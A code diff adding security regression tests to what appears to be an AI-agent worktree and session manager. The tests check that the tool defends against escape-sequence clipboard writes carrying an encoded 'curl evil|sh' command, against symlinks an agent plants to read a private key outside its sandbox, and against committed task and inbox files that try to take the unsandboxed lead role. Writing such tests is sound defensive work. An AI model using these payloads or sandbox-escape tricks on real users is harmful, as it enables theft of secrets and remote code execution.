@@ -800,3 +800,305 @@ def test_the_tmux_start_lock_is_never_waited_on_forever(repo: Path, monkeypatch:
     with host._starting():  # free again: taken at once, and nothing is left behind in the directory
         pass
     assert not [p for p in directory.iterdir() if host.socket in p.name]
+
+
+# -- adv6: attacks on what earlier rounds did not look at ----------------------------------------------------------
+
+
+def test_session_log_replays_colours_but_never_a_clipboard_write_or_a_terminal_query(
+        cli: CLI, repo: Path, tmux_socket: str) -> None:
+    """`session log NAME` wrote the agent's raw terminal stream to the user's terminal: output the repository made
+    the agent print (`cat` of a committed file) could set the user's clipboard (OSC 52), retitle the window, or ask
+    the terminal for a report that it then types into the user's shell. Colours and the text stay."""
+    hostile = (r"\033[31mred\033[0m \033]52;c;Y3VybCBldmlsfHNo\007 \033]0;owned\007 \033[6n \033[?1000h "
+               r"\033P+q544e\033\\ done\n")
+    trusted_config(repo, f"[agents.printer]\ncommand = '''sh -c 'printf \"{hostile}\"; sleep 60' '''\n")
+    cli.ok("worktree", "create", "talk", "--agent", "printer")
+    log = repo / ".worktrees" / ".logs" / "talk.log"
+    wait_for(lambda: log.exists() and b"done" in log.read_bytes())
+    assert b"\x1b]52;" in log.read_bytes()  # the log itself keeps everything (`--json` gives it raw)
+    shown = cli.ok("session", "log", "talk").stdout
+    assert "\x1b[31mred\x1b[0m" in shown and "done" in shown
+    for obeyed in ("\x1b]", "\x1bP", "\x1b[6n", "\x1b[?1000h", "\x07"):
+        assert obeyed not in shown, (obeyed, shown)
+
+
+@pytest.mark.usefixtures("tmux_socket")
+def test_session_send_file_never_follows_an_agents_link_out_of_its_worktree(cli: CLI, repo: Path,
+                                                                             tmp_path: Path) -> None:
+    """An agent plants `notes.md -> <a file its sandbox hides>` and asks to be sent its notes: `session send NAME
+    --file notes.md` read the link's target outside the sandbox and pasted the secret into the agent's session."""
+    secret = tmp_path / "id_ed25519"
+    secret.write_text("PRIVATE KEY MATERIAL\n")
+    trusted_config(repo, "[agents.cat]\ncommand = \"sh -c 'stty -echo; cat'\"\n")
+    cli.ok("worktree", "create", "ctx", "--agent", "cat")
+    worktree = repo / ".worktrees" / "ctx"
+    (worktree / "notes.md").symlink_to(secret)
+    (worktree / "docs").mkdir()
+    (worktree / "docs" / "real.md").write_text("inside the worktree\n")
+    (worktree / "readme-link.md").symlink_to("docs/real.md")  # a link that stays inside is fine
+    refused = cli("session", "send", "ctx", "--file", "notes.md")
+    assert refused.returncode == 1 and "links outside it" in refused.stderr, refused.stderr
+    cli.ok("session", "send", "ctx", "--file", "readme-link.md")
+    log = repo / ".worktrees" / ".logs" / "ctx.log"
+    wait_for(lambda: log.exists() and "inside the worktree" in log.read_text())
+    assert "PRIVATE KEY" not in log.read_text()
+    cli.ok("session", "send", "ctx", "--file", str(secret))  # the user's own path to it: their choice
+    wait_for(lambda: "PRIVATE KEY" in log.read_text())
+
+
+@pytest.mark.usefixtures("tmux_socket")
+@pytest.mark.parametrize("ui_state", ["/dev/zero", "fifo"])
+def test_a_committed_pane_size_file_that_never_ends_cannot_hang_a_session_start(tmp_path: Path,
+                                                                                ui_state: str) -> None:
+    """`.worktrees/.ui.json` (the dashboard's last pane size) came with the clone as a link to /dev/zero (or a
+    FIFO nobody writes): every session start read it until memory ran out (or forever)."""
+    clone = hostile_clone(tmp_path, {"notes.txt": "hello\n"},
+                          {".worktrees/.ui.json": "/dev/zero"} if ui_state == "/dev/zero" else {})
+    if ui_state == "fifo":  # git cannot commit one; a tool of the user's could leave one there
+        (clone / ".worktrees").mkdir(exist_ok=True)
+        os.mkfifo(clone / ".worktrees" / ".ui.json")
+    proc = CLI(clone, subprocess=True)("worktree", "create", "x", "--agent", "shell", timeout=60)
+    assert proc.returncode == 0, proc.stderr
+
+
+@pytest.mark.usefixtures("tmux_socket")
+def test_a_request_committed_in_a_clones_inbox_is_never_applied(tmp_path: Path) -> None:
+    """A clone commits `.worktrees/.inbox/feat/req-*.json`: once the user made worktree `feat` and started its
+    session, the next poll applied it as that session's own request (a task here; a lead's tools for a lead)."""
+    planted = {"kind": "task_create", "payload": {"subject": "planted by the clone"}}
+    clone = hostile_clone(tmp_path, {f".worktrees/.inbox/feat/req-{'d' * 32}.json": json.dumps(planted)})
+    cli = CLI(clone)
+    cli.ok("worktree", "create", "feat", "--agent", "shell")
+    cli.ok("session", "list")
+    assert cli.ok("task", "list").stdout.strip() == "no tasks"
+
+
+@pytest.mark.parametrize("planted", [".worktrees/.sessions/w.json", ".tasks/task_1.json",
+                                     ".worktrees/.inbox/boss/req-" + "e" * 32 + ".json"])
+def test_a_branch_that_carries_daintree_state_is_never_merged_over_it(cli: CLI, repo: Path, planted: str) -> None:
+    """git writes over ignored files: merged into main (checked out in the primary), an agent's force-added
+    `.worktrees/.sessions/w.json` replaced its own session record (role `lead`: a lead's tools and policy), a
+    `.tasks/task_1.json` gave a task the lead's role, a request landed in the lead's inbox."""
+    cli.ok("task", "create", "Tidy the docs")
+    cli.ok("worktree", "create", "w", "--task", "1")
+    state = repo / planted
+    state.parent.mkdir(parents=True, exist_ok=True)
+    state.write_text('{"mine": true}\n')
+    wt = repo / ".worktrees" / "w"
+    (wt / planted).parent.mkdir(parents=True, exist_ok=True)
+    (wt / planted).write_text('{"role": "lead"}\n')
+    (wt / "docs.md").write_text("tidy\n")
+    git(wt, "add", "-f", "-A")
+    git(wt, "commit", "-q", "-m", "tidy the docs")
+    main_before = git(repo, "rev-parse", "main")
+    for strategy in ("ff", "squash", "rebase"):
+        refused = cli("worktree", "merge", "w", "--strategy", strategy)
+        assert refused.returncode == 1 and "changes daintree's own state" in refused.stderr, refused.stderr
+    assert git(repo, "rev-parse", "main") == main_before
+    assert state.read_text() == '{"mine": true}\n'
+    git(wt, "rm", "-q", "--cached", planted)  # dropped from the branch: the work merges as usual
+    git(wt, "commit", "-q", "-m", "drop it")
+    cli.ok("worktree", "merge", "w", "--strategy", "squash")
+    assert state.read_text() == '{"mine": true}\n' and (repo / "docs.md").is_file()
+
+
+@pytest.mark.usefixtures("tmux_socket")
+def test_a_committed_task_cannot_choose_the_users_strongest_role(tmp_path: Path) -> None:
+    """A clone commits `.tasks/task_1.json` with `"role": "lead"`: the session working on it ran with the user's
+    lead role (here unsandboxed, with every MCP tool and merge without approval). The user saw only its subject."""
+    task = {"id": 1, "subject": "Tidy the docs", "description": "", "status": "pending", "owner": "", "worktree": "",
+            "blockedBy": [], "created_at": 1.0e9, "updated_at": 1.0e9, "role": "lead"}
+    clone = hostile_clone(tmp_path, {".tasks/task_1.json": json.dumps(task)})
+    config = Path(os.environ["XDG_CONFIG_HOME"]) / "daintree" / "config.toml"
+    config.parent.mkdir(parents=True, exist_ok=True)
+    config.write_text('default_role = "worker"\n[roles.worker]\nmcp = "worker"\nallow = ["commit"]\n'
+                      '[roles.lead]\nmcp = "lead"\nsandbox = "off"\nallow = ["commit", "merge", "remove"]\n')
+    cli = CLI(clone)
+    created = cli("worktree", "create", "x", "--task", "1", "--agent", "shell")
+    assert created.returncode == 0, created.stderr
+    assert "its role 'lead' is ignored" in created.stderr
+    record = json.loads((clone / ".worktrees" / ".sessions" / "x.json").read_text())
+    assert record["role"] == "worker", record
+    assert cli.json("policy", "show")  # the user's own roles are untouched
+    cli.ok("task", "create", "Mine", "--role", "lead")  # a role the user gives stays theirs to give
+    cli.ok("worktree", "create", "y", "--task", "2", "--agent", "shell")
+    assert json.loads((clone / ".worktrees" / ".sessions" / "y.json").read_text())["role"] == "lead"
+
+
+@pytest.mark.usefixtures("tmux_socket")
+async def test_an_agents_last_words_cannot_crash_the_dashboard_as_markup(repo: Path, cli: CLI) -> None:
+    """An agent that dies says why in a toast (its last line). Toasts read their text as markup: an agent (or the
+    repository's output it relays) that printed `[/x]` and exited ended the user's dashboard with MarkupError."""
+    import asyncio
+
+    from textual.widgets._toast import Toast
+
+    from daintree_tui.core.project import Project
+    from daintree_tui.tui.app import make_app
+    from daintree_tui.tui.screens.main import MainScreen
+
+    trusted_config(repo, "[notifications]\nbell = false\n[agents.dies]\ncommand = \"sh -c 'sleep 2; echo "
+                         "[/x] [link=https://evil.example]docs[/link]; exit 3'\"\n")
+    app = make_app(Project.discover(repo))
+    async with app.run_test(size=(120, 40), notifications=True) as pilot:
+        loop = asyncio.get_running_loop()
+        deadline = loop.time() + 30
+        while not (isinstance(app.screen, MainScreen) and app.screen.started) and loop.time() < deadline:
+            await pilot.pause(0.05)
+        cli.ok("worktree", "create", "w", "--agent", "dies")
+
+        def toasts() -> list[str]:
+            return [str(getattr(t.render(), "plain", t.render())) for t in app.screen.query(Toast)]
+
+        while not any("exited (3)" in t for t in toasts()) and loop.time() < deadline + 30 and app.is_running:
+            await pilot.pause(0.1)
+        await pilot.pause(0.3)  # rendered
+        assert app.is_running
+        assert any("[/x] [link=https://evil.example]docs[/link]" in t for t in toasts()), (
+            toasts(), list(app._notifications))
+
+
+@pytest.mark.usefixtures("tmux_socket")
+def test_a_committed_inbox_link_is_not_ours_and_nothing_behind_it_is_touched(tmp_path: Path) -> None:
+    """`.worktrees/.inbox -> ~` came with the clone: every sandboxed session start was refused ("is a symlink"),
+    and anything that cleared a worktree's inbox through it would delete `~/<name>`. Like `.trash`, the link is
+    removed (only the link) before daintree uses the folder."""
+    home = precious(tmp_path, "home")
+    (home / "feat").mkdir()
+    (home / "feat" / "thesis.txt").write_text("years of work\n")
+    clone = hostile_clone(tmp_path, {"notes.txt": "hello\n"}, {".worktrees/.inbox": str(home)})
+    created = CLI(clone)("worktree", "create", "feat", "--agent", "shell")
+    assert created.returncode == 0, created.stderr
+    assert intact(home) and (home / "feat" / "thesis.txt").read_text() == "years of work\n"
+    assert not (clone / ".worktrees" / ".inbox").is_symlink()
+
+
+def test_an_agents_sparse_or_linked_untracked_file_cannot_stall_or_aim_a_diff(cli: CLI, repo: Path,
+                                                                             tmp_path: Path) -> None:
+    """An untracked file in the agent's worktree: a sparse 100 GB one (no disk used) took `worktree diff --stat`
+    to MemoryError (its lines were read as one) and the dashboard's diff to minutes of git reading zeros; a link
+    pointed `--stat`'s line count at a file of the user's."""
+    import time
+
+    cli.ok("worktree", "create", "w")
+    worktree = repo / ".worktrees" / "w"
+    with (worktree / "big.bin").open("wb") as fh:
+        fh.truncate(2**30)  # 100 GB in the attack; 1 GB keeps a regression from taking the test machine down
+    outside = tmp_path / "users-file.txt"
+    outside.write_text("one\ntwo\nthree\n")
+    (worktree / "notes.md").symlink_to(outside)
+    (worktree / "small.txt").write_text("a\nb\n")
+    for args in (("--stat",), ()):
+        started = time.monotonic()
+        shown = cli.ok("worktree", "diff", "w", *args).stdout
+        assert time.monotonic() - started < 20, args
+        assert "big.bin" in shown and "1073741824 bytes" in shown, shown
+    stat = cli.ok("worktree", "diff", "w", "--stat").stdout
+    assert " notes.md (untracked) | 0 +" in stat and " small.txt (untracked) | 2 +" in stat, stat
+
+
+@pytest.mark.usefixtures("tmux_socket")
+def test_the_queue_never_runs_an_agent_a_committed_task_chose(tmp_path: Path) -> None:
+    """A clone commits `.tasks/task_1.json` with `"agent": "free"`, the user's own unsandboxed agent: `queue run`
+    started it on the repository's text (its subject is the first prompt), outside any sandbox. A task the user
+    gives an agent is started as before."""
+    task = {"id": 1, "subject": "Tidy the docs", "description": "", "status": "pending", "owner": "", "worktree": "",
+            "blockedBy": [], "created_at": 1.0e9, "updated_at": 1.0e9, "agent": "free"}
+    clone = hostile_clone(tmp_path, {".tasks/task_1.json": json.dumps(task)})
+    config = Path(os.environ["XDG_CONFIG_HOME"]) / "daintree" / "config.toml"
+    config.parent.mkdir(parents=True, exist_ok=True)
+    config.write_text("[agents.free]\ncommand = \"cat\"\nsandbox = \"off\"\n")
+    cli = CLI(clone)
+    cli.ok("queue", "run", "--once")
+    assert cli.json("session", "list") == [] and not (clone / ".worktrees" / "tidy-the-docs").exists()
+    cli.ok("task", "create", "Mine", "--agent", "free")
+    cli.ok("queue", "run", "--once")
+    assert [s["agent"] for s in cli.json("session", "list")] == ["free"]
+
+
+@pytest.mark.parametrize("section", ["agents", "roles"])
+def test_a_config_name_with_terminal_controls_is_bad_input(tmp_path: Path, section: str) -> None:
+    """Agent and role names are shown as they are: the dashboard draws them through Rich Text, which Textual writes
+    to the terminal with its ESC (checked in a PTY), so a clone's `[agents."x\\u001b]52;c;..."]` set the user's
+    clipboard when the agent picker opened."""
+    table = f'[{section}."x\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007"]\n' + ('command = "claude"\n' if section == "agents"
+                                                                        else 'allow = ["commit"]\n')
+    clone = hostile_clone(tmp_path, {".daintree.toml": table})
+    proc = CLI(clone)("agents")
+    assert proc.returncode == 2 and "without control characters" in proc.stderr, proc.stderr
+    assert "\x1b" not in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
+
+
+def test_a_hosts_branch_or_agent_never_reaches_the_terminal_through_a_row_or_the_title() -> None:
+    """A host's `worktree list --json` and `session list --json` are its own word: a branch
+    `wt/x\\x1b]52;c;...\\x07` or an agent named so went into the worktree table and the title bar as Rich Text,
+    which Textual writes to the terminal with its ESC (a clipboard write)."""
+    from daintree_tui.core.models import WorktreeEntry
+    from daintree_tui.sessions.manager import SessionInfo
+    from daintree_tui.sessions.status import SessionStatus
+    from daintree_tui.tui.widgets.rows import compose_line
+    from daintree_tui.tui.widgets.session_title import SessionTitle
+
+    hostile = "wt/x\x1b]52;c;Y3VybCBldmlsfHNo\x07\u202e"
+    line = compose_line([hostile, "ok\tthen"], [40, 10])
+    assert "\x1b" not in line.plain and "\x07" not in line.plain and "\u202e" not in line.plain, repr(line.plain)
+    assert "ok then" in line.plain and "wt/x?]52;c;" in line.plain
+    entry = WorktreeEntry(name="feat@box", path="/srv/app/.worktrees/feat", branch=hostile, base_ref="main",
+                          base_commit="a" * 40)
+    info = SessionInfo(name="feat@box", session="dt-feat", agent=hostile, status=SessionStatus.RUNNING,
+                       exit_code=None, pid=None, started_at=0.0, log="", persistent=True)
+    title = SessionTitle()
+    title.set_reactive(SessionTitle.entries, (entry,))  # no app running: set, not watched
+    title.set_reactive(SessionTitle.sessions, {"feat@box": info})
+    title.set_reactive(SessionTitle.selected, "feat@box")
+    shown = title.describe().plain
+    assert "\x1b" not in shown and "\x07" not in shown and "\\x1b]52;c;" in shown, repr(shown)
+
+
+DIFF_APP = r'''
+import json, sys
+from textual.app import App
+from daintree_tui.tui.widgets.diff_view import DiffView
+class Shows(App):
+    def compose(self):
+        yield DiffView()
+    def on_mount(self):
+        self.query_one(DiffView).show("w", json.load(open(sys.argv[1]))["diff"])
+        self.set_timer(1.0, self.exit)
+Shows().run()
+'''
+
+
+def test_an_agents_file_in_the_dashboards_diff_never_drives_the_terminal(cli: CLI, repo: Path, tmp_path: Path) -> None:
+    """`d` shows the agent's changes byte for byte: a file holding `ESC ] 52;c;...` wrote the user's clipboard,
+    Textual passing the diff's controls to the terminal as they were. Read in a real PTY."""
+    import pty
+    import select
+
+    cli.ok("worktree", "create", "w")
+    (repo / ".worktrees" / "w" / "notes.txt").write_text(f"see {OSC52} here\n")
+    diff = tmp_path / "diff.json"
+    diff.write_text(cli.ok("worktree", "diff", "w", "--json").stdout)
+    assert "\x1b]52;" in json.loads(diff.read_text())["diff"]  # the CLI's --json keeps it raw: data, not a screen
+    pid, fd = pty.fork()
+    if pid == 0:
+        os.environ["TERM"] = "xterm-256color"
+        os.execv(PY, [PY, "-c", DIFF_APP, str(diff)])
+    out = bytearray()
+    try:
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline:
+            if select.select([fd], [], [], 0.2)[0]:
+                try:
+                    chunk = os.read(fd, 65536)
+                except OSError:
+                    break
+                if not chunk:
+                    break
+                out += chunk
+    finally:
+        os.waitpid(pid, 0)
+        os.close(fd)
+    assert b"Y3VybCBld" in out, bytes(out[-2000:])  # the diff was on screen
+    assert b"\x1b]52;" not in out
